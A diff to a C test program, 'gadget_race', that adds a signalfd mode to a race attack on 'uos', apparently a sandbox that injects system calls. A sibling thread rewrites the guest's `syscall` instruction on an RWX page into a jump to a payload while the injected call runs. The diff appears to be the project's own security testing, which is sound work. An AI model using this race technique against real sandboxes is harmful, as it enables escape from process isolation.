@@ -1,13 +1,15 @@
 /*
- * gadget_race mmap|exec MARKER CANARY VICTIM PORT COUNT DMAX_US [N]:
+ * gadget_race mmap|signalfd|exec MARKER CANARY VICTIM PORT COUNT DMAX_US [N]:
  * rewrite the instruction uos resumes at when it injects system calls.
  *
  * Attack: uos runs the calls it injects (the mmap and close of a file
  * mapping, the execve of its exec stub) by pointing the thread back at the
  * guest's own `syscall` instruction, the one the guest trapped with.  Here
  * that instruction is on an RWX page of the guest's: the main thread makes
- * its mmap of a file (mode mmap, COUNT times) or its execve of this program
- * (mode exec, COUNT execs in all, N so far) through it, and a sibling thread,
+ * its mmap of a file (mode mmap, COUNT times), its read of two records from
+ * a signalfd with two signals pending (mode signalfd: one rt_sigtimedwait
+ * injected per record), or its execve of this program (mode exec, COUNT
+ * execs in all, N so far) through it, and a sibling thread,
  * a random 0..DMAX_US microseconds after the main thread went in, turns it
  * into a jump to a payload (sec_payload), putting it back once the call
  * returned.
@@ -35,6 +37,7 @@
 #include <pthread.h>
 #include <signal.h>
 #include <stdbool.h>
+#include <sys/signalfd.h>
 #include <sys/socket.h>
 
 #define STACK_SIZE (256 * 1024)
@@ -156,6 +159,38 @@ static int run_mmap(long count, void *top)
 	return 0;
 }
 
+static int run_signalfd(long count, void *top)
+{
+	long ok = 0, early = 0, other = 0;
+	struct signalfd_siginfo si[2];
+	sigset_t set;
+	sigemptyset(&set);
+	sigaddset(&set, SIGUSR1);
+	sigaddset(&set, SIGUSR2);
+	int fd = signalfd(-1, &set, SFD_NONBLOCK);
+	if (fd < 0) {
+		perror("gadget_race: signalfd");
+		return 2;
+	}
+	for (long i = 0; i < count; i++) {
+		syscall(SYS_tgkill, getpid(), gettid(), SIGUSR1);
+		syscall(SYS_tgkill, getpid(), gettid(), SIGUSR2);
+		long r = attempt(SYS_read, fd, (long)si, sizeof(si), 0, 0, 0, top);
+		if (r == -EINTR) {
+			early++;
+			while (read(fd, si, sizeof(si)) > 0) /* what the jump left pending */
+				;
+		} else if (r == (long)sizeof(si)) {
+			ok++;
+		} else if (other++ < 5) {
+			say("attempt %ld: read returned %ld\n", i, r);
+		}
+	}
+	say("gadget_race signalfd: %ld attempts: %ld read, %ld early, %ld other\n", count, ok,
+	    early, other);
+	return 0;
+}
+
 static int run_exec(char **argv, long count, long n, void *top)
 {
 	long tries = 0;
@@ -181,7 +216,7 @@ static int run_exec(char **argv, long count, long n, void *top)
 int main(int argc, char **argv)
 {
 	if (argc != 8 && argc != 9) {
-		fprintf(stderr, "usage: gadget_race mmap|exec MARKER CANARY VICTIM PORT COUNT DMAX_US [N]\n");
+		fprintf(stderr, "usage: gadget_race mmap|signalfd|exec MARKER CANARY VICTIM PORT COUNT DMAX_US [N]\n");
 		return 2;
 	}
 	marker = argv[2];
@@ -191,6 +226,11 @@ int main(int argc, char **argv)
 	long count = atol(argv[6]);
 	dmax_ns = atol(argv[7]) * 1000 + 1;
 	vpid = getpid();
+	sigset_t set;
+	sigemptyset(&set);
+	sigaddset(&set, SIGUSR1);
+	sigaddset(&set, SIGUSR2);
+	sigprocmask(SIG_BLOCK, &set, NULL); /* for mode signalfd, in both threads */
 	insn = sec_page();
 	void *top = sec_stack(STACK_SIZE);
 	if (!insn || !top) {
@@ -204,5 +244,7 @@ int main(int argc, char **argv)
 	}
 	if (strcmp(argv[1], "mmap") == 0)
 		return run_mmap(count, top);
+	if (strcmp(argv[1], "signalfd") == 0)
+		return run_signalfd(count, top);
 	return run_exec(argv, count, argc == 9 ? atol(argv[8]) : 0, top);
 }
